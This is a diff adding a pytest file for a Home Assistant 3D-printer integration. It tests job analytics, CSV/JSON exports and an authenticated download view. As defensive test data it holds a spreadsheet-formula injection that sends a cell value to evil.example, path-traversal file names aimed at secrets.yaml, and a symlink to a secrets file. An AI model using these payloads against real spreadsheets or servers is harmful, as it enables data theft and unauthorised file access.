@@ -1,0 +1,553 @@
+"""The analytics and export actions, called as an automation would, and the download view.
+
+The history is filled through its own API with records priced by the integration's cost model
+(the printer's options), in Europe/Berlin, so a job's local day differs from its UTC day.
+"""
+
+from __future__ import annotations
+
+import csv
+from datetime import UTC, datetime, timedelta
+from decimal import Decimal
+import errno
+import io
+import json
+import os
+from pathlib import Path
+import time
+from typing import Any
+from unittest.mock import patch
+from zoneinfo import ZoneInfo
+
+from homeassistant.core import HomeAssistant
+from homeassistant.exceptions import HomeAssistantError, ServiceValidationError
+from homeassistant.helpers import device_registry as dr
+from homeassistant.util import dt as dt_util
+from hypothesis import strategies as st
+import pytest
+from pytest_homeassistant_custom_component.common import MockConfigEntry, async_fire_time_changed
+from pytest_homeassistant_custom_component.typing import ClientSessionGenerator
+import voluptuous as vol
+from yarl import URL
+
+from custom_components.printernizer.actions import analytics
+from custom_components.printernizer.const import DOMAIN
+from custom_components.printernizer.history import DATA_HISTORY
+from custom_components.printernizer.jobs import JobRecord, JobStatus, MaterialUse
+from custom_components.printernizer.jobs.costing import record_costs
+from custom_components.printernizer.jobs.export import COLUMNS, GERMAN
+from simulator.bambu.printer import BambuSimulator
+
+from .test_services import PRICES, call_data, examples, refused
+
+BERLIN = ZoneInfo("Europe/Berlin")
+OTHER = "OTHERPRINTER"  # a printer removed since: its jobs stay in the history
+MARCH = {"start": "2026-03-01", "end": "2026-03-31"}
+HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1)'
+
+
+def job(
+    job_id: str,
+    serial: str,
+    local_start: datetime,
+    *,
+    status: JobStatus = JobStatus.COMPLETED,
+    hours: float = 2.0,
+    grams: float = 100.0,
+    material: str = "PLA",
+    **fields: Any,
+) -> JobRecord:
+    start = local_start.replace(tzinfo=BERLIN).astimezone(UTC)
+    end = start + timedelta(hours=hours)
+    return JobRecord(
+        id=job_id,
+        serial=serial,
+        printer_name="P1S" if serial != OTHER else "Old MK4",
+        started_at=start,
+        updated_at=end,
+        ended_at=end,
+        duration_seconds=hours * 3600,
+        status=status,
+        job_name=f"Part {job_id}",
+        materials=(MaterialUse(material=material, planned_grams=grams, grams=grams),),
+        **fields,
+    )
+
+
+def march(serial: str) -> list[JobRecord]:
+    """Four jobs started in March (local time), one before it and one after it."""
+    return [
+        # 00:30 on 1 March in Berlin is still 28 February in UTC.
+        job("a", serial, datetime(2026, 3, 1, 0, 30), category="business", customer="ACME",
+            notes=HOSTILE_NOTE),
+        job("b", serial, datetime(2026, 3, 10, 10), category="private",
+            customer='Müller; "Co"', material="PETG", grams=50.0, hours=1.0),
+        job("c", serial, datetime(2026, 3, 31, 23, 30), status=JobStatus.FAILED,
+            category="business"),
+        job("e", OTHER, datetime(2026, 3, 15, 8), category="business", customer="ACME"),
+        job("before", serial, datetime(2026, 2, 28, 22), category="business"),
+        # 00:10 on 1 April in Berlin is 31 March in UTC.
+        job("after", serial, datetime(2026, 4, 1, 0, 10), category="business"),
+    ]  # fmt: skip
+
+
+@pytest.fixture
+async def entry(
+    hass: HomeAssistant, bambu_entry: MockConfigEntry, bambu_sim: BambuSimulator, tmp_path: Path
+) -> Any:
+    hass.config.config_dir = str(tmp_path / "config")
+    await hass.config.async_set_time_zone("Europe/Berlin")
+    hass.config_entries.async_update_entry(bambu_entry, options=PRICES)
+    assert await hass.config_entries.async_setup(bambu_entry.entry_id)
+    await hass.async_block_till_done()
+    settings = bambu_entry.runtime_data.jobs.settings()
+    history = hass.data[DATA_HISTORY]
+    for record in march(bambu_sim.serial):
+        history.put(record_costs(record, settings))
+    yield bambu_entry
+    await hass.config_entries.async_unload(bambu_entry.entry_id)
+    await hass.async_block_till_done()
+
+
+def exports(hass: HomeAssistant) -> Path:
+    return Path(hass.config.path("printernizer", "exports"))
+
+
+def printer_device(hass: HomeAssistant, serial: str) -> str:
+    device = dr.async_get(hass).async_get_device(identifiers={(DOMAIN, serial)})
+    assert device is not None
+    return device.id
+
+
+async def call(hass: HomeAssistant, service: str, **data: Any) -> Any:
+    return await hass.services.async_call(
+        DOMAIN, service, data, blocking=True, return_response=True
+    )
+
+
+def gross(hass: HomeAssistant, *job_ids: str) -> float:
+    """The sum of the jobs' gross amounts as each record shows it."""
+    history = hass.data[DATA_HISTORY]
+    return float(sum(Decimal(history.get(job_id).cost["gross"]) for job_id in job_ids))
+
+
+@pytest.mark.usefixtures("entry")
+async def test_overview_counts_jobs_by_their_local_start_day(
+    hass: HomeAssistant, bambu_sim: BambuSimulator
+) -> None:
+    result = await call(hass, "get_overview", **MARCH)
+    assert result["period"] == {
+        "kind": "custom",
+        "label": "2026-03-01_2026-03-31",
+        "start": "2026-02-28T23:00:00+00:00",
+        "end": "2026-03-31T22:00:00+00:00",  # summer time from 29 March
+    }
+    assert result["currency"] == "EUR"
+    assert result["jobs"] == 4
+    assert result["by_status"]["completed"] == 3
+    assert result["by_status"]["failed"] == 1
+    assert result["success_rate"] == 75.0
+    # A 2 h job with 100 g PLA at 20/kg, 200 W at 0.30/kWh, wear 0.50/h, 19 % VAT:
+    # 2.00 + 0.12 + 1.00 = 3.12 net, 0.59 VAT, 3.71 gross; the hour with 50 g PETG at 30/kg:
+    # 1.50 + 0.06 + 0.50 = 2.06 net, 0.39 VAT, 2.45 gross.
+    assert hass.data[DATA_HISTORY].get("a").cost["gross"] == "3.71"
+    assert result["gross"] == pytest.approx(gross(hass, "a", "b", "c", "e"), abs=1e-9)
+    assert result["gross"] == 13.58
+    assert isinstance(result["net"], float)
+    assert result["categories"]["business"]["jobs"] == 3
+    assert result["categories"]["private"]["jobs"] == 1
+    assert result["top_customers"][0]["name"] == "ACME"
+    assert result["top_customers"][0]["gross"] == 7.42
+    by_type = {item["material"]: item for item in result["materials"]["by_type"]}
+    assert by_type["PLA"]["grams"] == 300.0
+    assert by_type["PLA"]["cost"] == 6.0
+    assert by_type["PETG"]["grams"] == 50.0
+
+
+@pytest.mark.usefixtures("entry")
+async def test_overview_filters(hass: HomeAssistant, bambu_sim: BambuSimulator) -> None:
+    device = printer_device(hass, bambu_sim.serial)
+    cases = [
+        ({"device_id": device}, {"a", "b", "c"}),
+        ({"category": "business"}, {"a", "c", "e"}),
+        ({"status": ["completed"]}, {"a", "b", "e"}),
+        ({"customer": "ACME"}, {"a", "e"}),
+        ({"customer": 'Müller; "Co"', "category": ["private"]}, {"b"}),
+        ({"device_id": [device], "status": "failed"}, {"c"}),
+    ]
+    for filters, expected in cases:
+        result = await call(hass, "get_overview", **MARCH, **filters)
+        assert result["jobs"] == len(expected), filters
+        assert result["gross"] == pytest.approx(gross(hass, *expected), abs=1e-9), filters
+
+
+@pytest.mark.usefixtures("entry")
+async def test_calendar_periods_are_local(hass: HomeAssistant, bambu_sim: BambuSimulator) -> None:
+    """Last month, this year: whatever today is, counted in Home Assistant's time zone."""
+    now = dt_util.now()
+    first = now.replace(day=1, hour=0, minute=0, second=0, microsecond=0)
+    last_month = (first - timedelta(days=1)).replace(day=1)
+    history = hass.data[DATA_HISTORY]
+    history.put(job("last-month", bambu_sim.serial, last_month.replace(tzinfo=None)))
+    history.put(job("this-month", bambu_sim.serial, first.replace(tzinfo=None)))
+    result = await call(hass, "get_overview", period="month", offset=-1)
+    assert result["period"]["label"] == f"{last_month.year}-{last_month.month:02d}"
+    assert result["jobs"] == 1
+    result = await call(hass, "get_overview")  # this month by default
+    assert result["jobs"] == 1
+    today = await call(hass, "get_overview", period="today")
+    assert today["period"]["label"] == now.date().isoformat()
+
+
+@pytest.mark.usefixtures("entry")
+async def test_printer_stats_and_material_usage(
+    hass: HomeAssistant, bambu_sim: BambuSimulator
+) -> None:
+    stats = await call(hass, "get_printer_stats", **MARCH)
+    assert stats["currency"] == "EUR"
+    printers = {item["serial"]: item for item in stats["printers"]}
+    assert set(printers) == {bambu_sim.serial, OTHER}
+    mine = printers[bambu_sim.serial]
+    assert mine["jobs"] == 3
+    assert mine["failures"] == {"failed": 1}
+    assert mine["success_rate"] == 66.7
+    assert mine["gross"] == pytest.approx(gross(hass, "a", "b", "c"), abs=1e-9)
+    # 2 + 1 h, and the half hour of job c left before 1 April; the period lasts 743 h.
+    assert mine["busy_hours"] == 3.5
+    assert mine["utilization"] == round(3.5 / 743 * 100, 1)
+    usage = await call(hass, "get_material_usage", **MARCH)
+    assert [(item["material"], item["grams"]) for item in usage["by_type"]] == [
+        ("PLA", 300.0),
+        ("PETG", 50.0),
+    ]
+    assert {(item["serial"], item["material"]) for item in usage["by_printer"]} == {
+        (bambu_sim.serial, "PLA"),
+        (bambu_sim.serial, "PETG"),
+        (OTHER, "PLA"),
+    }
+
+
+def read_csv(path: Path, dialect: str) -> list[list[str]]:
+    raw = path.read_bytes()
+    if dialect == "german":
+        assert raw.startswith("\ufeff".encode())
+    else:
+        assert not raw.startswith("\ufeff".encode())
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        return list(csv.reader(file, delimiter=";" if dialect == "german" else ","))
+
+
+@pytest.mark.usefixtures("entry")
+@pytest.mark.parametrize("dialect", ["international", "german"])
+async def test_csv_export_round_trips_through_the_csv_module(
+    hass: HomeAssistant, dialect: str
+) -> None:
+    result = await call(hass, "export_jobs", **MARCH, dialect=dialect)
+    suffix = "-de" if dialect == "german" else ""
+    assert result["file_name"] == f"printernizer-jobs-2026-03-01_2026-03-31{suffix}.csv"
+    path = Path(result["path"])
+    assert path == exports(hass) / result["file_name"]
+    assert result["rows"] == 4
+    assert result["size"] == path.stat().st_size
+    assert result["totals"]["EUR"]["gross"] == pytest.approx(
+        gross(hass, "a", "b", "c", "e"), abs=1e-9
+    )
+    rows = read_csv(path, dialect)
+    assert rows[0] == list(COLUMNS if dialect == "international" else GERMAN.headers)
+    cells = [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]
+    assert [cell["job"] for cell in cells] == ["Part a", "Part b", "Part e", "Part c"]
+    first, second = cells[0], cells[1]
+    if dialect == "german":
+        assert first["date"] == "01.03.2026"
+        assert first["gross"] == "3,71"
+        assert first["status"] == "abgeschlossen"
+        assert first["category"] == "geschäftlich"
+    else:
+        assert first["date"] == "2026-03-01"
+        assert first["gross"] == "3.71"
+        assert first["status"] == "completed"
+    assert first["notes"] == "'" + HOSTILE_NOTE  # shown as text, never run as a formula
+    assert second["customer"] == 'Müller; "Co"'
+
+
+@pytest.mark.usefixtures("entry")
+async def test_json_export_with_filters(hass: HomeAssistant) -> None:
+    result = await call(
+        hass, "export_jobs", **MARCH, format="json", customer="ACME", tag="acme invoices"
+    )
+    assert result["file_name"] == "printernizer-jobs-2026-03-01_2026-03-31-acme-invoices.json"
+    assert result["dialect"] is None
+    rows = json.loads(Path(result["path"]).read_text(encoding="utf-8"))
+    assert [row["job"] for row in rows] == ["Part a", "Part e"]
+    assert rows[0]["date"] == "2026-03-01"
+    assert result["rows"] == 2
+
+
+@pytest.mark.usefixtures("entry")
+async def test_a_hostile_tag_stays_in_the_exports_folder(hass: HomeAssistant) -> None:
+    result = await call(hass, "export_jobs", **MARCH, tag="../../../secrets/..\\x")
+    path = Path(result["path"])
+    assert path.parent == exports(hass)
+    assert path.name == result["file_name"]
+    assert "/" not in result["file_name"]
+    assert ".." not in result["file_name"]
+
+
+async def test_download_needs_a_signed_in_user(
+    hass: HomeAssistant,
+    entry: MockConfigEntry,
+    hass_client: ClientSessionGenerator,
+    hass_client_no_auth: ClientSessionGenerator,
+) -> None:
+    result = await call(hass, "export_jobs", **MARCH, dialect="german")
+    content = Path(result["path"]).read_bytes()
+    client = await hass_client()
+    response = await client.get(result["url"])
+    assert response.status == 200
+    assert await response.read() == content
+    assert response.headers["Content-Type"].startswith("text/csv")
+    assert response.headers["Content-Disposition"] == (
+        f'attachment; filename="{result["file_name"]}"'
+    )
+    anonymous = await hass_client_no_auth()
+    assert (await anonymous.get(result["url"])).status == 401
+    # The signed link opens without a token (a browser, a notification), and only its path.
+    signed = await anonymous.get(result["download_url"])
+    assert signed.status == 200
+    assert await signed.read() == content
+    query = result["download_url"].partition("?")[2]
+    other = f"{analytics.EXPORTS_URL}/printernizer-jobs-other.csv?{query}"
+    assert (await anonymous.get(other)).status == 401
+
+
+async def test_hostile_file_names_are_not_served(
+    hass: HomeAssistant, entry: MockConfigEntry, hass_client: ClientSessionGenerator
+) -> None:
+    result = await call(hass, "export_jobs", **MARCH)
+    folder = exports(hass)
+    secret = Path(hass.config.path("secrets.yaml"))
+    secret.write_text("password: hunter2\n")
+    (folder / "printernizer-jobs-link.csv").symlink_to(secret)
+    (folder / "notes.txt").write_text("not an export")
+    (folder / ".printernizer-jobs-2026-03.csv.part").write_text("half")
+    (folder / "printernizer-jobs-dir.csv").mkdir()
+    client = await hass_client()
+    base = analytics.EXPORTS_URL
+    # Traversal HA's own filter refuses before any view (400), or the view does not find (404).
+    for name in (
+        "..%2F..%2Fsecrets.yaml",
+        "..%2f..%2fsecrets.yaml",
+        "%2E%2E%2F%2E%2E%2Fsecrets.yaml",
+        "..%5C..%5Csecrets.yaml",
+        f"{secret}".replace("/", "%2F"),
+        "printernizer-jobs-2026-03%00..%2F..%2Fsecrets.csv",
+    ):
+        response = await client.get(URL(f"{base}/{name}", encoded=True))
+        assert response.status in (400, 404), name
+        assert b"hunter2" not in await response.read(), name
+    for path in ("/../../secrets.yaml", "/../secrets.yaml", "/%2E%2E/%2E%2E/secrets.yaml"):
+        response = await client.get(URL(f"{base}{path}", encoded=True))
+        assert response.status in (400, 404), path
+        assert b"hunter2" not in await response.read(), path
+    # Names the view sees and refuses.
+    for name in (
+        "printernizer-jobs-link.csv",
+        "notes.txt",
+        ".printernizer-jobs-2026-03.csv.part",
+        "printernizer-jobs-dir.csv",
+        f"{result['file_name']}%00",
+        f"{result['file_name']}%00.csv",
+        "printernizer-jobs-missing.csv",
+        "printernizer-jobs-..csv",
+    ):
+        response = await client.get(URL(f"{base}/{name}", encoded=True))
+        assert response.status == 404, name
+        assert b"hunter2" not in await response.read(), name
+    for name in ("../../secrets.yaml", str(secret), "printernizer-jobs-x.csv\x00", ""):
+        assert analytics.servable(folder, name) is None, name
+
+
+def age(path: Path, days: float) -> None:
+    stamp = time.time() - days * 86400
+    os.utime(path, (stamp, stamp), follow_symlinks=False)
+
+
+async def test_old_exports_are_removed_at_setup_and_daily(
+    hass: HomeAssistant, bambu_entry: MockConfigEntry, tmp_path: Path
+) -> None:
+    hass.config.config_dir = str(tmp_path / "config")
+    folder = exports(hass)
+    folder.mkdir(parents=True)
+    old = folder / "printernizer-jobs-2025-01.csv"
+    old.write_text("old")
+    age(old, 31)
+    assert await hass.config_entries.async_setup(bambu_entry.entry_id)
+    await hass.async_block_till_done()
+    assert not old.exists()
+    files = {
+        "printernizer-jobs-2025-02.csv": 29,  # young enough
+        "printernizer-jobs-2025-03.json": 20,
+        "printernizer-jobs-2025-04.json": 31,  # too old
+        ".printernizer-jobs-2025-05.csv.part": 31,  # a partial file left by a crash
+        "notes.txt": 400,  # not ours
+        "printernizer-jobs-2025-06.txt": 400,  # not a name we write
+    }
+    for name, days in files.items():
+        (folder / name).write_text(name)
+        age(folder / name, days)
+    outside = tmp_path / "config" / "printernizer-jobs-2025-07.csv"
+    outside.write_text("outside")
+    age(outside, 400)
+    link = folder / "printernizer-jobs-2025-08.csv"
+    link.symlink_to(outside)
+    age(link, 400)
+    async_fire_time_changed(hass, dt_util.utcnow() + timedelta(days=1, seconds=1))
+    await hass.async_block_till_done()
+    assert sorted(path.name for path in folder.iterdir()) == [
+        "notes.txt",
+        "printernizer-jobs-2025-02.csv",
+        "printernizer-jobs-2025-03.json",
+        "printernizer-jobs-2025-06.txt",
+        "printernizer-jobs-2025-08.csv",  # a symlink is not ours: neither served nor removed
+    ]
+    assert outside.read_text() == "outside"
+    await hass.config_entries.async_unload(bambu_entry.entry_id)
+    await hass.async_block_till_done()
+
+
+@pytest.mark.usefixtures("entry")
+async def test_a_full_disk_keeps_the_earlier_export_and_the_history(hass: HomeAssistant) -> None:
+    earlier = await call(hass, "export_jobs", **MARCH)
+    path = Path(earlier["path"])
+    content = path.read_bytes()
+    history = hass.data[DATA_HISTORY]
+    history.put(job("late", "LATEPRINTER", datetime(2026, 3, 20, 12)))
+    real_open = open
+
+    class FullDisk(io.TextIOWrapper):
+        """A file whose device fills up after the first 100 characters."""
+
+        written = 0
+
+        def write(self, text: str) -> int:
+            self.written += len(text)
+            if self.written > 100:
+                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+            return super().write(text)
+
+    def full_disk(file: Any, mode: str = "r", **kwargs: Any) -> Any:
+        assert mode == "w"
+        return FullDisk(real_open(file, "wb"), **kwargs)
+
+    with (
+        patch.object(analytics, "open", full_disk, create=True),
+        pytest.raises(HomeAssistantError) as err,
+    ):
+        await call(hass, "export_jobs", **MARCH)
+    assert err.value.translation_key == "export_disk_full"
+    assert err.value.translation_placeholders["name"] == earlier["file_name"]
+    refused(err.value)  # in every language
+    assert sorted(p.name for p in exports(hass).iterdir()) == [earlier["file_name"]]
+    assert path.read_bytes() == content
+    assert history.get("late") is not None
+    again = await call(hass, "export_jobs", **MARCH)
+    assert again["rows"] == earlier["rows"] + 1
+
+
+@pytest.mark.usefixtures("entry")
+@pytest.mark.parametrize(
+    ("data", "key"),
+    [
+        ({"start": "2026-03-31", "end": "2026-03-01"}, "invalid_range"),
+        ({"start": "2026-03-02T10:00:00", "end": "2026-03-02T10:00:00"}, "invalid_range"),
+        ({"start": "2026-03-01"}, "custom_period_range"),
+        ({"period": "month", **MARCH}, "custom_period_range"),
+        ({"period": "custom"}, "custom_period_range"),
+        ({"period": "fortnight"}, "invalid_choice"),
+        ({"status": ["completed", "exploded"]}, "invalid_choice"),
+        ({"category": "hobby"}, "invalid_choice"),
+        ({"device_id": "not-a-device"}, "printer_not_found"),
+        ({"customer": "ACME\x00"}, "invalid_text"),
+        ({"start": "0001-01-01", "end": "2026-03-01"}, "invalid_period"),
+        ({"start": "2026-03-01", "end": "9999-12-31"}, "invalid_period"),
+        (
+            {"start": "9999-12-31T20:00:00-12:00", "end": "9999-12-31T21:00:00-12:00"},
+            "invalid_period",
+        ),
+        ({"start": "0001-01-01T00:30:00+05:00", "end": "2026-03-01"}, "invalid_period"),
+        ({"period": "year", "offset": -1200}, None),  # the year 826 is fine
+        ({"period": "month", "offset": 1200}, None),
+    ],
+    ids=repr,
+)
+async def test_bad_requests_are_explained(
+    hass: HomeAssistant, data: dict[str, Any], key: str | None
+) -> None:
+    for service in ("get_overview", "get_printer_stats", "get_material_usage", "export_jobs"):
+        if key is None:
+            await call(hass, service, **data)
+            continue
+        with pytest.raises(ServiceValidationError) as err:
+            await call(hass, service, **data)
+        assert refused(err.value) == key, service
+
+
+@pytest.mark.usefixtures("entry")
+@pytest.mark.parametrize(
+    ("data", "key"),
+    [({"format": "xlsx"}, "invalid_choice"), ({"dialect": "klingon"}, "invalid_choice")],
+)
+async def test_unknown_export_formats_are_explained(
+    hass: HomeAssistant, data: dict[str, Any], key: str
+) -> None:
+    with pytest.raises(ServiceValidationError) as err:
+        await call(hass, "export_jobs", **MARCH, **data)
+    assert refused(err.value) == key
+    assert not exports(hass).exists() or not list(exports(hass).iterdir())
+
+
+async def test_hostile_action_data_is_refused_or_answered(
+    hass: HomeAssistant, entry: MockConfigEntry, bambu_sim: BambuSimulator
+) -> None:
+    """Every call answers or is refused as invalid (translated); nothing raises raw."""
+    device = printer_device(hass, bambu_sim.serial)
+    days = st.dates(min_value=datetime(1, 1, 2).date(), max_value=datetime(9999, 12, 30).date())
+    stamps = st.datetimes(min_value=datetime(2026, 1, 1), max_value=datetime(2026, 12, 31))
+    fields = {
+        "period": st.sampled_from(["today", "week", "month", "year", "custom", "decade"]),
+        "offset": st.integers(-1300, 1300),
+        "start": days.map(str) | stamps.map(datetime.isoformat) | stamps,
+        "end": days | stamps.map(datetime.isoformat),
+        "device_id": st.sampled_from([device, [device, device], "nope", []]),
+        "category": st.sampled_from(["business", ["private"], "x"]),
+        "status": st.sampled_from(["completed", ["failed", "active"], "gone"]),
+        "customer": st.text(max_size=10) | st.lists(st.text(max_size=5), max_size=3),
+    }
+    plans = {
+        "get_overview": call_data(**fields),
+        "get_material_usage": call_data(**fields),
+        "export_jobs": call_data(
+            **fields,
+            format=st.sampled_from(["csv", "json", "pdf"]),
+            dialect=st.sampled_from(["international", "german", "x"]),
+            tag=st.text(max_size=60),
+        ),
+    }
+    outcomes: dict[str, int] = {}
+    for service, strategy in plans.items():
+        for data in examples(strategy, 120):
+            try:
+                await call(hass, service, **data)
+                outcome = "ok"
+            except ServiceValidationError as err:
+                outcome = refused(err)
+            except vol.Invalid:
+                outcome = "invalid"
+            except Exception as err:
+                raise AssertionError(f"{service} raised {err!r} for {data!r:.300}") from err
+            outcomes[outcome] = outcomes.get(outcome, 0) + 1
+    assert outcomes["ok"] > 50
+    assert outcomes["invalid"] > 50
+    assert {"invalid_choice", "custom_period_range", "printer_not_found"} <= set(outcomes)
+    folder = exports(hass)
+    assert all(path.parent == folder for path in folder.iterdir())
